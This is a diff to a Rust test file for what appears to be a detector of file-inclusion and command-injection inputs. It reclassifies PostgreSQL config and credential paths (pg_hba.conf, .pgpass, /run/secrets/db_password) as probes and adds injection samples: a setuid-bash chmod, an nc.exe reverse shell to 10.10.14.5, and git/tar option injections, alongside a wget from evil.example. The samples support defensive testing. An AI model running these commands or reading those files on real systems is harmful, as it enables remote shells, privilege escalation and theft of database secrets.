@@ -1346,7 +1346,10 @@ fn file_inclusion_shapes() {
             "/srv/php/app/index.html",
             "/api/v2/php/handlers",
             "/etc/ssl/certs/ca-certificates.crt",
-            "/etc/postgresql/15/main/pg_hba.conf",
+            // (PostgreSQL's configuration named in a note; a value that is only its path is a
+            // probe: see second_hunt_shapes)
+            "max_connections = 200 in postgresql.conf, pgbouncer in front",
+            "chmod 600 ~/.pgpass fixed the password prompt",
             "C:\\Users\\trader\\Documents\\pnl.xlsx",
             "\\\\nas01\\exports\\fills 2024-06.csv",
             "/docs/apache-license.txt",
@@ -1466,6 +1469,12 @@ fn second_hunt_shapes() {
         &[
             "/var/www/html/.env",
             "/var/lib/postgresql/.psql_history",
+            "/etc/postgresql/15/main/pg_hba.conf",
+            "/var/lib/postgresql/data/postgresql.auto.conf",
+            "C:\\Program Files\\PostgreSQL\\15\\data\\pg_hba.conf",
+            "~postgres/.pgpass",
+            "/var/log/postgresql/postgresql-15-main.log",
+            "/run/secrets/db_password",
             "C:\\ProgramData\\MySQL\\MySQL Server 8.0\\my.ini",
             "/var/run/docker.sock",
             "/etc/kubernetes/admin.conf",
@@ -1502,6 +1511,11 @@ fn second_hunt_shapes() {
             "netsh firewall set opmode disable",
             "wget http://evil.example/x.sh -O /tmp/x",
             "whoami /all",
+            ";who``ami",
+            ";chmod +s /bin/bash",
+            "& C:\\Windows\\Temp\\nc.exe -e cmd.exe 10.10.14.5 4444",
+            "--upload-pack=touch /tmp/pwn",
+            "--use-compress-program=id",
         ],
         Class::Cmdi,
     );
